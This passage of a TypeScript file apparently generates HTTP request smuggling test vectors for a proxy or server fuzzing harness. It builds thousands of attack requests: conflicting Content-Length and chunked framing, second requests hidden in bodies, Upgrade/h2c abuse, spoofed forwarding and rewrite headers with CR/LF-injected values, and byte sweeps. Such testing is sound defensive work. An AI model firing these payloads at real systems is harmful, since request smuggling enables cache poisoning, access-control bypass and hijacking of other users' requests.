      ["zero", "Content-Length: 0\r\n", SECOND],
      ["over second", `Content-Length: ${lengthOf(SECOND)}\r\n`, SECOND],
    ] as const)
      for (const method of ["POST", "GET"])
        drafts.push([
          `Expect ${method} ${what} ${quoted(value)}`,
          post(`Expect: ${value}\r\n${fields}`, rest, "HTTP/1.1", method),
        ]);
  for (const line of lineForms("Expect", "100-continue"))
    drafts.push([`Expect ${quoted(line)}`, post(`${line}Content-Length: 5\r\n`, `hello${SECOND}`)]);
  const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
  for (const upgrade of [
    "h2c",
    "H2C",
    "h2",
    "websocket",
    "WebSocket",
    "TLS/1.0",
    "TLS/1.2, HTTP/1.1",
    "h2c, websocket",
    "HTTP/2.0",
    "foo/1",
    "",
    "\x00",
    "h2c\x0b",
    "websocket\r\n x",
  ])
    for (const via of [
      "Connection: Upgrade\r\n",
      "Connection: Upgrade, HTTP2-Settings\r\n",
      "Connection: upgrade, close\r\n",
      "Connection: keep-alive\r\n",
      "",
      "Connection: x\r\n Upgrade\r\n",
    ])
      for (const [what, fields, rest] of [
        ["GET", "", SECOND],
        ["GET h2", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n", preface],
        [
          "GET ws",
          "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n",
          `\x81\x05hello${SECOND}`,
        ],
        ["POST", "Content-Length: 5\r\n", `hello${SECOND}`],
      ] as const)
        drafts.push([
          `Upgrade ${what} ${quoted(upgrade)} ${quoted(via)}`,
          post(`${via}Upgrade: ${upgrade}\r\n${fields}`, rest, "HTTP/1.1", what === "POST" ? "POST" : "GET"),
        ]);
  return drafts;
}

function pipelines(): Draft[] {
  const drafts: Draft[] = [];
  const methods = [
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "PROPFIND",
    "PURGE",
    "FOO",
    "QUERY",
  ];
  for (const method of methods)
    for (const follower of methods) {
      const second = `${follower} /@b HTTP/1.1\r\n${HOST}\r\n`;
      const third = `GET /@c HTTP/1.1\r\n${HOST}\r\n`;
      drafts.push([
        `${method} length ${follower}`,
        post("Content-Length: 5\r\n", `hello${second}${third}`, "HTTP/1.1", method),
      ]);
      drafts.push([
        `${method} chunked ${follower}`,
        post("Transfer-Encoding: chunked\r\n", `${CHUNKED}${second}${third}`, "HTTP/1.1", method),
      ]);
      drafts.push([`${method} bare ${follower}`, post("", `${second}${third}`, "HTTP/1.1", method)]);
    }
  for (const method of methods) {
    // The content itself is a request: whoever does not read it serves it.
    drafts.push([
      `${method} content is a request`,
      post(`Content-Length: ${lengthOf(SECOND)}\r\n`, SECOND, "HTTP/1.1", method),
    ]);
    drafts.push([
      `${method} half a request`,
      post(`Content-Length: ${lengthOf(SECOND) - 9}\r\n`, SECOND, "HTTP/1.1", method),
    ]);
    drafts.push([
      `${method} chunk is a request`,
      post("Transfer-Encoding: chunked\r\n", `${hex(SECOND)}\r\n${SECOND}\r\n0\r\n\r\n`, "HTTP/1.1", method),
    ]);
    drafts.push([
      `${method} close, then another`,
      post("Connection: close\r\nContent-Length: 5\r\n", `hello${SECOND}`, "HTTP/1.1", method),
    ]);
    drafts.push([`${method} too short`, post("Content-Length: 500\r\n", SECOND, "HTTP/1.1", method)]);
    drafts.push([
      `${method} without end`,
      post("Transfer-Encoding: chunked\r\n", `${hex(SECOND)}\r\n${SECOND}\r\n`, "HTTP/1.1", method),
    ]);
  }
  for (let count = 2; count <= 40; count += 2)
    drafts.push([`${count} at once`, `GET /@a HTTP/1.1\r\n${HOST}\r\n`.repeat(count)]);
  return drafts;
}

/** Names that CGI and its kin take for others, and fields that only proxies may state. */
function aliases(): Draft[] {
  const names = [
    "Content-Length",
    "Transfer-Encoding",
    "Host",
    "Connection",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "Authorization",
    "Cookie",
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-HTTP-Method-Override",
    "X-Real-IP",
    "Forwarded",
    "Via",
    "CDN-Loop",
    "Isochrone-Peer",
    "Isochrone-Owner",
    "Isochrone-Tier",
    "Surrogate-Capability",
    "X-Accel-Redirect",
    "Max-Forwards",
    "HTTP2-Settings",
    ":path",
    ":authority",
    "Proxy",
    "Content-Encoding",
    "Range",
    "If-Range",
  ];
  const values = [
    "5",
    "chunked",
    "evil.test",
    "6.6.6.6",
    "/@b",
    "PUT",
    "a, b",
    "\x00",
    "x\r\n y",
    "x\ry",
    "x\ny",
    "\xff",
    "",
  ];
  const drafts: Draft[] = [];
  for (const name of names)
    for (const spelt of [name, name.replaceAll("-", "_"), `${name} `, name.replace(/^(.)/, "$1_")])
      for (const value of values.slice(0, spelt === name ? 13 : 5))
        drafts.push([
          `${quoted(spelt)} ${quoted(value)}`,
          `GET /@a HTTP/1.1\r\n${HOST}${spelt}: ${value}\r\n\r\n${SECOND}`,
        ]);
  for (const size of [199, 201, 1_000, 10_000])
    drafts.push([`${size} fields`, `GET /@a HTTP/1.1\r\n${HOST}${"a: b\r\n".repeat(size)}\r\n${SECOND}`]);
  for (const size of [8_000, 15_900, 16_384, 70_000]) {
    drafts.push([`field of ${size}`, `GET /@a HTTP/1.1\r\n${HOST}X-A: ${"b".repeat(size)}\r\n\r\n${SECOND}`]);
    drafts.push([`name of ${size}`, `GET /@a HTTP/1.1\r\n${HOST}${"b".repeat(size)}: x\r\n\r\n${SECOND}`]);
  }
  return drafts;
}

/** Places of a message, each filled with each of the 256 bytes (`§`). */
const SWEPT: readonly (readonly [where: string, template: string])[] = [
  ["before method", `§GET /@a HTTP/1.1\r\n${HOST}\r\n`],
  ["after method", `GET§ /@a HTTP/1.1\r\n${HOST}\r\n`],
  ["before target", `GET §/@a HTTP/1.1\r\n${HOST}\r\n`],
  ["in target", `GET /@a§x HTTP/1.1\r\n${HOST}\r\n`],
  ["before version", `GET /@a §HTTP/1.1\r\n${HOST}\r\n`],
  ["after version", `GET /@a HTTP/1.1§\r\n${HOST}\r\n`],
  ["before first field", `GET /@a HTTP/1.1\r\n§${HOST}\r\n`],
  ["in name", `GET /@a HTTP/1.1\r\n${HOST}X§A: b\r\n\r\n`],
  ["after name", `GET /@a HTTP/1.1\r\n${HOST}X-A§: b\r\n\r\n`],
  ["before value", `GET /@a HTTP/1.1\r\n${HOST}X-A: §b\r\n\r\n`],
  ["after value", `GET /@a HTTP/1.1\r\n${HOST}X-A: b§\r\n\r\n`],
  ["in host", "GET /@a HTTP/1.1\r\nHost: edge§.test\r\n\r\n"],
  ["after Transfer-Encoding", post("Transfer-Encoding§: chunked\r\n", CHUNKED)],
  ["before chunked", post("Transfer-Encoding: §chunked\r\n", CHUNKED)],
  ["after chunked", post("Transfer-Encoding: chunked§\r\n", CHUNKED)],
  ["after Content-Length", post("Content-Length§: 5\r\n", "hello")],
  ["before length", post("Content-Length: §5\r\n", "hello")],
  ["after length", post("Content-Length: 5§\r\n", "hello")],
  ["before chunk size", post("Transfer-Encoding: chunked\r\n", "§5\r\nhello\r\n0\r\n\r\n")],
  ["after chunk size", post("Transfer-Encoding: chunked\r\n", "5§\r\nhello\r\n0\r\n\r\n")],
  ["in extension", post("Transfer-Encoding: chunked\r\n", "5;a=§\r\nhello\r\n0\r\n\r\n")],
  ["after chunk", post("Transfer-Encoding: chunked\r\n", "5\r\nhello§\r\n0\r\n\r\n")],
  ["in chunk's line end", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r§\n0\r\n\r\n")],
  ["after last chunk's size", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0§\r\n\r\n")],
  ["before the end", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n§\r\n")],
  ["in trailer name", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\nX§: y\r\n\r\n")],
  ["in the head's end", `GET /@a HTTP/1.1\r\n${HOST}\r§\n`],
];

function sweep(): Draft[] {
  const drafts: Draft[] = [];
  for (const [where, template] of SWEPT)
    for (let byte = 0; byte < 256; byte += 1)
      drafts.push([
        `${where} 0x${byte.toString(16).padStart(2, "0")}`,
        `${template.replace("§", () => String.fromCharCode(byte))}${SECOND}`,
      ]);
  return drafts;
}

const CLASSES: Readonly<Record<string, () => readonly Draft[]>> = {
  "transfer-encoding": transferCoding,
  "content-length": contentLength,
  chunks,
  "line-ends": lineEnds,
  "request-line": requestLines,
  host: hosts,
  connection,
  "expect-upgrade": expectAndUpgrade,
  pipeline: pipelines,
  aliases,
  sweep,
};

/** Every vector, in a fixed order; no two have the same bytes. */
export function smugglingVectors(): readonly Vector[] {
  const vectors: Vector[] = [];
  const seen = new Set<string>();
  for (const [className, drafts] of Object.entries(CLASSES))
    for (const [name, template] of drafts()) {
      if (seen.has(template)) continue;
      seen.add(template);
      const id = vectors.length;
      const bytes = template.replace(PLACE, (_, letter: string) => segment(id, letter));
      vectors.push({ id, class: className, name, bytes });
    }
  return vectors;
}

/** The path segment that names a request of a vector. */
export function segment(id: number, letter: string): string {
  return `v${String(id).padStart(5, "0")}${letter}`;
}
